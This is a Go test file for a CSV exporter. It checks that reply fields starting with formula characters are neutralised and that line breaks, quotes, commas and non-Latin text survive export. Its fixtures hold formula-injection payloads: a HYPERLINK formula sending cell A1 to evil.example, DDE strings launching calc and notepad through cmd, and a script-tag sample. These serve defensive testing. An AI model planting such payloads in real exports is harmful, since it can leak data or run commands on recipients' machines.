package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"reflect"
	"strings"
	"testing"

	"github.com/leadbell/leadbell/event"
)

// loadHostile reads testdata/hostile.json: replies with formulas, HTML,
// line breaks, quotes, commas and non-Latin text in their fields.
func loadHostile(t *testing.T) []event.Event {
	t.Helper()
	b, err := os.ReadFile("testdata/hostile.json")
	if err != nil {
		t.Fatal(err)
	}
	var evs []event.Event
	if err := json.Unmarshal(b, &evs); err != nil {
		t.Fatal(err)
	}
	return evs
}

// encode writes evs through enc, which writes to buf, and returns the bytes.
func encode(t *testing.T, enc encoder, buf *bytes.Buffer, evs []event.Event) []byte {
	t.Helper()
	if err := enc.begin(); err != nil {
		t.Fatal(err)
	}
	for _, ev := range evs {
		if err := enc.event(ev); err != nil {
			t.Fatal(err)
		}
	}
	if err := enc.end(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// encodeCSV writes evs through the CSV encoder and returns the bytes.
func encodeCSV(t *testing.T, evs []event.Event) []byte {
	t.Helper()
	var buf bytes.Buffer
	return encode(t, newCSVEncoder(&buf), &buf, evs)
}

// readCSV parses an export the way a spreadsheet would, BOM first.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte(utf8BOM)) {
		t.Fatalf("the CSV does not start with a UTF-8 BOM: %q", b[:min(len(b), 8)])
	}
	rows, err := csv.NewReader(bytes.NewReader(b[len(utf8BOM):])).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, b)
	}
	return rows
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"formula", `=HYPERLINK("https://evil.example")`, `'=HYPERLINK("https://evil.example")`},
		{"plus", "+1-555-0100", "'+1-555-0100"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"empty", "", ""},
		{"plain text", "Yes, let's talk", "Yes, let's talk"},
		{"formula later in the cell", "call me =now", "call me =now"},
		{"leading space", " =1+1", "' =1+1"},
		{"leading newline", "\n@SUM(1)", "'\n@SUM(1)"},
		{"only spaces", "   ", "   "},
		{"unicode", "Zoë", "Zoë"},
		{"already quoted", "'=1", "'=1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := neutralise(tt.in); got != tt.want {
				t.Errorf("neutralise(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCSVRows(t *testing.T) {
	evs := loadHostile(t)
	rows := readCSV(t, encodeCSV(t, evs))
	if !reflect.DeepEqual(rows[0], csvColumns) {
		t.Fatalf("header %q, want %q", rows[0], csvColumns)
	}
	if len(rows) != len(evs)+1 {
		t.Fatalf("%d rows, want a header and %d events", len(rows), len(evs))
	}
	col := func(row []string, name string) string {
		for i, c := range csvColumns {
			if c == name {
				return row[i]
			}
		}
		t.Fatalf("no column %q", name)
		return ""
	}
	tests := []struct {
		name, column string
		row          int
		want         string
	}{
		// encoding/csv reads \r\n inside a quoted cell as \n; the bytes are
		// checked in TestCSVKeepsLineBreaks.
		{"line breaks stay in one cell", "body", 1, "Hi Sam,\n\nYes, let's talk on Tuesday.\nBest,\nJane"},
		{"commas and quotes", "campaign_name", 1, `Q4 outreach, "EU" accounts`},
		{"comma in a company", "company", 1, "Acme, Inc."},
		{"time as in JSON", "received_at", 1, "2026-11-20T09:15:03.25Z"},
		{"number", "sequence_number", 1, "2"},
		{"missing number is empty", "open_count", 1, ""},
		{"read", "read", 2, "true"},
		{"formula name", "lead_name", 2, `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`},
		{"plus company", "company", 2, "'+1-555-0100"},
		{"at subject", "subject", 2, "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"minus body", "body", 2, "'-2+3+cmd|' /C notepad'!'A1'"},
		{"HTML kept as text", "body", 3, "<div dir=\"auto\">Merci beaucoup ! 🙏<br><b>Zoë</b></div>\n<script>alert(1)</script>"},
		{"unicode", "lead_name", 3, "Zoë Ångström"},
		{"emoji", "campaign_name", 3, "Ünïcødé 🚀 campaign"},
		{"right to left", "subject", 3, "Re: 你好 — مرحبا"},
		{"backfilled", "backfilled", 3, "true"},
		{"tab", "lead_name", 4, "'\tTabbed"},
		{"carriage return", "company", 4, "'\rCarriage"},
		{"url with a comma", "url", 4, "https://acme.example/pricing?utm_source=smartlead&x=1,2"},
		{"open count", "open_count", 4, "3"},
		{"no campaign name", "campaign_name", 4, ""},
		{"timestamp", "timestamp", 4, "2026-11-21T09:00:00Z"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := col(rows[tt.row], tt.column); got != tt.want {
				t.Errorf("row %d %s = %q, want %q", tt.row, tt.column, got, tt.want)
			}
		})
	}
}

// TestCSVNoCellStartsAFormula reads every cell of the hostile export and
// checks that none would run in a spreadsheet.
func TestCSVNoCellStartsAFormula(t *testing.T) {
	for i, row := range readCSV(t, encodeCSV(t, loadHostile(t))) {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with %q: %q", i, csvColumns[j], cell[0], cell)
			}
		}
	}
}

// TestCSVColumnsFollowEventJSON keeps the header in step with the Event's
// JSON names and their order, should a field be renamed or moved.
func TestCSVColumnsFollowEventJSON(t *testing.T) {
	var names []string
	typ := reflect.TypeFor[event.Event]()
	for i := range typ.NumField() {
		name, _, _ := strings.Cut(typ.Field(i).Tag.Get("json"), ",")
		names = append(names, name)
	}
	last := -1
	for _, c := range csvColumns {
		pos := -1
		for i, n := range names {
			if n == c {
				pos = i
			}
		}
		if pos < 0 {
			t.Errorf("column %q is no JSON field of event.Event", c)
			continue
		}
		// read and backfilled come last in the CSV, whatever the struct's order.
		if c != "read" && c != "backfilled" && pos < last {
			t.Errorf("column %q is out of the Event's order", c)
		}
		last = max(last, pos)
	}
}

func TestCSVKeepsLineBreaks(t *testing.T) {
	out := encodeCSV(t, loadHostile(t))
	want := "\"Hi Sam,\r\n\r\nYes, let's talk on Tuesday.\nBest,\nJane\""
	if !bytes.Contains(out, []byte(want)) {
		t.Errorf("the body's line breaks were changed; want %q in\n%q", want, out)
	}
}

func TestCSVEmpty(t *testing.T) {
	rows := readCSV(t, encodeCSV(t, nil))
	if len(rows) != 1 || !reflect.DeepEqual(rows[0], csvColumns) {
		t.Fatalf("an empty export is %q, want the header alone", rows)
	}
}
